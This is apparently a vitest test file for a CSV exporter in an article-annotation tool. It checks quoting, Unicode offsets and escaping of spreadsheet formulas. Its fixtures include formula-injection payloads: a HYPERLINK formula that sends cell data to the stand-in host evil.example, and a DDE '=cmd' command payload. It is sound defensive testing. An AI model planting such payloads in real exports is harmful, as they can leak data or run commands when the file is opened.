import { describe, expect, it } from 'vitest';
import { formulaSafe } from '../../source/export/csv.js';
import type { ExportFilter } from '../../source/export/model.js';
import { articleOfSentences } from '../helpers/articles.js';
import {
  asciiArticle,
  byCodePoints,
  orphan,
  place,
  sampleInput,
  statusTable,
  unicodeArticle,
} from './fixture.js';
import { exportText, parseCsv, type StoreContents } from './helpers.js';

const toCsv = (
  input: StoreContents,
  filter: ExportFilter = {},
  options: { bom?: boolean; raw?: boolean } = {},
) => exportText('csv', input, { filter, ...options });

/** Four rows: Unicode offsets, a note with a line break, attributes, an orphan, a formula. */
function smallInput() {
  return {
    articles: [unicodeArticle, asciiArticle],
    annotations: [
      place(unicodeArticle, 0, 'quote', 'alice', {
        id: 'q1',
        note: 'check the “translation”\nwith the desk',
        attributes: { speaker: 'minister, deputy', when: '-1d' },
      }),
      place(unicodeArticle, 1, 'event', 'bob', { id: 'e1' }),
      place(asciiArticle, 0, 'claim', 'alice', {
        id: 'c1',
        note: '=HYPERLINK("http://evil.example/?"&A1,"see")',
      }),
      orphan(unicodeArticle, 'alice'),
    ],
    statuses: statusTable({ 'uni/alice': 'done' }),
  };
}

const HASH_UNI = unicodeArticle.hash;
const HASH_PLAIN = asciiArticle.hash;

describe('csv export', () => {
  it('writes exactly these bytes: header, code point offsets, RFC 4180 quoting, guarded formulas', async () => {
    expect((await toCsv(smallInput())).split('\r\n')).toEqual([
      'id,article,title,source,date,annotator,label,sentence,text,start,end,quote,prefix,suffix,textHash,note,status,created,updated,orphan,attribute:claimant,attribute:speaker,attribute:when,attribute:where,attributes',
      `q1,uni,Переговоры “soon”,The National,2025-03-14,alice,quote,uni-s0,"“Мы готовы к переговорам 😀”, said the minister.",0,47,,, Talks begin on Friday 🇺🇦 in R,${HASH_UNI},"check the “translation”\nwith the desk",done,2026-01-02T03:04:05.000Z,2026-01-02T03:04:06.000Z,false,,"minister, deputy",'-1d,,`,
      `e1,uni,Переговоры “soon”,The National,2025-03-14,bob,event,uni-s1,Talks begin on Friday 🇺🇦 in Riyadh.,48,83,,"говорам 😀”, said the minister. ","\n\nPrices rose 5% — a record 😀😀",${HASH_UNI},,unreviewed,2026-01-02T03:04:05.000Z,2026-01-02T03:04:06.000Z,false,,,,,`,
      `orphan1,uni,Переговоры “soon”,The National,2025-03-14,alice,event,gone,A sentence since cut.,295,315,,before , after,${'f'.repeat(64)},,done,2026-01-01T00:00:00.000Z,2026-01-01T00:00:00.000Z,true,,,,,`,
      `c1,plain,Plain,Daily,,alice,claim,plain-s0,The mayor said taxes fell.,0,26,,, It rained.,${HASH_PLAIN},"'=HYPERLINK(""http://evil.example/?""&A1,""see"")",unreviewed,2026-01-02T03:04:05.000Z,2026-01-02T03:04:06.000Z,false,,,,,`,
      '',
    ]);
  });

  it('reads back with offsets that select the sentence in code points', async () => {
    const input = sampleInput();
    const [header, ...rows] = parseCsv(await toCsv(input));
    expect(rows).toHaveLength(input.annotations.length);
    const column = (name: string) => header!.indexOf(name);
    const placed = rows.filter((r) => r[column('orphan')] === 'false');
    expect(placed).toHaveLength(6);
    for (const row of placed) {
      const article = input.articles.find((a) => a.id === row[column('article')])!;
      const start = Number(row[column('start')]);
      const end = Number(row[column('end')]);
      expect(byCodePoints(article.text, start, end)).toBe(row[column('text')]);
    }
  });

  it.each([
    ['=1+2', "'=1+2"],
    ['+1 555 0100', "'+1 555 0100"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tindented', "'\tindented"],
    ['\rreturn', "'\rreturn"],
    ['a = b', 'a = b'],
    ['“=quoted”', '“=quoted”'],
    ['', ''],
  ])('guards %j as %j', (value, expected) => {
    expect(formulaSafe(value)).toBe(expected);
  });

  it('guards every text column (sentence, title, note, attributes), and --raw leaves them alone', async () => {
    const article = articleOfSentences(
      'evil',
      [['=cmd|"/c calc"!A1 is what the page said.', 'Fine.']],
      {
        title: '@title',
        source: '+source',
      },
    );
    const input = {
      articles: [article],
      annotations: [
        place(article, 0, 'claim', 'alice', {
          id: 'x1',
          note: '-note',
          attributes: { speaker: '=speaker' },
        }),
      ],
      statuses: statusTable({}),
    };
    const [header, row] = parseCsv(await toCsv(input));
    const get = (name: string) => row![header!.indexOf(name)];
    expect(get('text')).toBe('\'=cmd|"/c calc"!A1 is what the page said.');
    expect(get('title')).toBe("'@title");
    expect(get('source')).toBe("'+source");
    expect(get('note')).toBe("'-note");
    expect(get('attribute:speaker')).toBe("'=speaker");
    expect(get('suffix')).toBe(' Fine.');

    const [rawHeader, raw] = parseCsv(await toCsv(input, {}, { raw: true }));
    const rawGet = (name: string) => raw![rawHeader!.indexOf(name)];
    expect(rawGet('text')).toBe('=cmd|"/c calc"!A1 is what the page said.');
    expect(rawGet('note')).toBe('-note');
    expect(rawGet('attribute:speaker')).toBe('=speaker');
  });

  it('quotes commas, quotes and line breaks per RFC 4180', async () => {
    const text = await toCsv(sampleInput(), { annotators: ['alice'], labels: ['quote'] });
    const line = text.split('\r\n')[1]!;
    expect(line).toContain('"“Мы готовы к переговорам 😀”, said the minister."');
    expect(text).toContain('"check the “translation”\nwith the desk"');
    // An attribute the labels do not declare goes in `attributes`, as JSON.
    expect(text).toContain(',,minister,,,"{""verdict"":""needs context""}"\r\n');
    const row = parseCsv(text)[1]!;
    expect(row[8]).toBe(unicodeArticle.sentences[0]!.text);
  });

  it('starts with a byte order mark only when asked', async () => {
    expect((await toCsv(sampleInput(), {}, { bom: true })).startsWith('\uFEFFid,article,')).toBe(
      true,
    );
    expect((await toCsv(sampleInput())).startsWith('id,article,')).toBe(true);
  });
});
